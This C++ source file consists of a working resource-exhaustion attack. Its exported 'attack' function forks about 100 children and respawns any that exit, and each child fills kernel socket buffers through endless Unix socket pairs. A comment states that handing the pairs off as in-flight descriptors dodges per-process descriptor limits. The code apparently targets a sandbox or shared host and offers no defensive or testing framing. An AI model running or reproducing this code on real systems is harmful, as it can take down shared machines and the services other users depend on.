#include <cstring>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static char block[1 << 16];

static bool send_descriptor(int through, int what) {
    char control[CMSG_SPACE(sizeof(int))] = {};
    struct iovec bytes = {block, 1};
    struct msghdr message = {};
    message.msg_iov = &bytes;
    message.msg_iovlen = 1;
    message.msg_control = control;
    message.msg_controllen = sizeof control;
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(header), &what, sizeof what);
    return sendmsg(through, &message, MSG_DONTWAIT) == 1;
}

static void fill_sockets() {
    int size = 1 << 30, chain[2], next[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, chain))
        _exit(1);
    while (socketpair(AF_UNIX, SOCK_STREAM, 0, next) == 0) {
        setsockopt(next[0], SOL_SOCKET, SO_SNDBUF, &size, sizeof size);
        while (send(next[0], block, sizeof block, MSG_DONTWAIT) > 0) {
        }
        // In flight the pair costs no descriptor any more; where that is refused, it stays open.
        if (send_descriptor(chain[0], next[0]) && send_descriptor(chain[0], next[1])) {
            close(next[0]);
            close(next[1]);
        }
    }
    for (;;)
        pause();
}

extern "C" long attack(long n) {
    for (int running = 0;; running--) {
        for (; running < 100; running++)
            if (fork() == 0)
                fill_sockets();
        wait(nullptr);
    }
    return n;
}
